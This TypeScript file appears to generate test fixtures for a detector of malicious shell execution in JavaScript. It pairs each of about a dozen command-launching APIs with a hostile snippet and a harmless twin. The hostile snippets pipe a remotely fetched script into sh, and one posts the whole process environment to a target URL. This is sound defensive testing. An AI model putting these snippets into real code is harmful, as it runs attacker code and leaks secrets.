import { urlOf, type Target } from '../target.ts'
import type { JsDeed } from './deed.ts'
import { quoted, type JsWriter } from './writer.ts'

const fetched = (target: Target): string => `curl -s ${urlOf(target, '/i.sh')} | sh`
const words = (target: Target): string => `'-c', ${quoted(fetched(target))}`

/** A command by a starter, and its twin: the same with a command that harms nobody. */
function started(start: (w: JsWriter, command: string) => string): JsDeed {
  return {
    bad: (w, t) => start(w, w.text(fetched(t))),
    twin: (w) => start(w, quoted('git --version')),
  }
}

/** The ways to start a command of a shell, each with its own API. */
export const JS_STARTERS: Readonly<Record<string, JsDeed>> = {
  'spawn-shell': started((w, command) => `${w.fn('child_process', 'spawn')}(${command}, { shell: true });`),
  'spawn-shell-words': {
    bad: (w, t) =>
      `${w.fn('child_process', 'spawn')}('curl', ['-s', ${w.text(urlOf(t, '/i.sh'))}, '|', 'sh'], { shell: true });`,
    twin: (w) => `${w.fn('child_process', 'spawn')}('git', ['status', '|', 'wc'], { shell: true });`,
  },
  'cross-spawn': {
    bad: (w, t) => `${w.fn('cross-spawn', 'sync')}('sh', [${words(t)}]);`,
    twin: (w) => `${w.fn('cross-spawn', 'sync')}('git', ['--version']);`,
  },
  'node-cmd': started((w, command) => `${w.fn('node-cmd', 'runSync')}(${command});`),
  shelljs: started((w, command) => `${w.fn('shelljs', 'exec')}(${command});`),
  'sudo-prompt': started((w, command) => `${w.fn('sudo-prompt', 'exec')}(${command}, { name: 'Setup' });`),
  'execa-template': {
    bad: (w, t) => `${w.fn('execa', '$')}({ shell: true })\`${fetched(t)}\`;`,
    twin: (w) => `${w.fn('execa', '$')}({ shell: true })\`git --version\`;`,
  },
  'zx-template': {
    bad: (w, t) => `${w.fn('zx', '$')}\`${fetched(t)}\`;`,
    twin: (w) => `${w.fn('zx', '$')}\`git --version\`;`,
  },
  'bun-template': {
    bad: (w, t) => `${w.attr('Bun', '$')}\`${fetched(t)}\`;`,
    twin: (w) => `${w.attr('Bun', '$')}\`git --version\`;`,
  },
  'bun-spawn': {
    bad: (w, t) => `${w.attr('Bun', 'spawn')}(['sh', ${words(t)}]);`,
    twin: (w) => `${w.attr('Bun', 'spawn')}(['git', '--version']);`,
  },
  'deno-command': {
    bad: (w, t) => `new (${w.attr('Deno', 'Command')})('sh', { args: [${words(t)}] }).spawn();`,
    twin: (w) => `new (${w.attr('Deno', 'Command')})('git', { args: ['--version'] }).spawn();`,
  },
  binding: {
    bad: (w, t) =>
      `${w.attr('process', 'binding')}('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', ${words(t)}] });`,
    twin: (w) => `console.log(typeof ${w.attr('process', 'version')});`,
  },
  'worker-text': {
    bad: (w, t) =>
      `new (${w.fn('worker_threads', 'Worker')})(${w.text(`require('https').request('${urlOf(t, '/e')}', { method: 'POST' }).end(JSON.stringify(process.env))`)}, { eval: true });`,
    twin: (w) =>
      `new (${w.fn('worker_threads', 'Worker')})(${quoted("require('worker_threads').parentPort.postMessage(1)")}, { eval: true });`,
  },
}
